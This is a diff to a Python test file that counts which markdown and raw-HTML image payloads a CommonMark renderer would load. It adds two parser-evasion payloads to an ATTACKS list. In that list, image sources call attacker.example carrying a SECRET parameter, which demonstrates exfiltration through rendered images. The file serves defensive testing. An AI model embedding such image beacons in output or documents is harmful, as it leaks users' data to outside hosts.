@@ -7,6 +7,7 @@ renderer (HTML on), as an editor would read it."""
 from __future__ import annotations
 
 import re
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
@@ -28,6 +29,10 @@ ATTACKS = "\n".join([
     "reference: ![r][ref] and shortcut ![ref]",
     "",
     "[ref]: https://attacker.example/r?d=SECRET",
+    "",
+    "<pre>an escape is none in raw HTML</pre>\\<img src=https://attacker.example/b?d=SECRET>",
+    "",
+    "<a title='<img src=\"https://attacker.example/q?d=SECRET\">",
 ])
 ORDINARY = "\n".join([
     "Here is the fix, see [the docs](https://docs.python.org/3/library/re.html?highlight=x)",
@@ -35,7 +40,7 @@ ORDINARY = "\n".join([
     "",
     "```markdown",
     "![badge](https://attacker.example/badge.svg?d=SECRET)",
-    '<img src="https://attacker.example/i.png">',
+    '<img src="docs/chat.png" alt="a local one">',
     "```",
     "",
     "~~~",
@@ -46,16 +51,27 @@ ORDINARY = "\n".join([
 ])
 
 
+class _Loads(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.addresses: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.addresses += [value for name, value in attrs
+                           if name in ("src", "srcset") and value
+                           and re.search(r"(?:^|[\s,])(?:[a-z]+:)?//", value)]
+
+
 def remote_images(markdown: str) -> list[str]:
     """The addresses of the images a CommonMark renderer with HTML on would load."""
-    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
-    return [address for address in re.findall(r"(?:src|srcset)=\"([^\"]*)\"", rendered)
-            if re.search(r"[a-z]+:|//", address)]
+    loads = _Loads()
+    loads.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
+    return loads.addresses
 
 
 def test_the_attacks_are_images_a_renderer_would_load() -> None:
     # the oracle itself: every line of ATTACKS loads SECRET when rendered as written
-    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 9
+    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 11
     assert remote_images(ORDINARY) == []
 
 
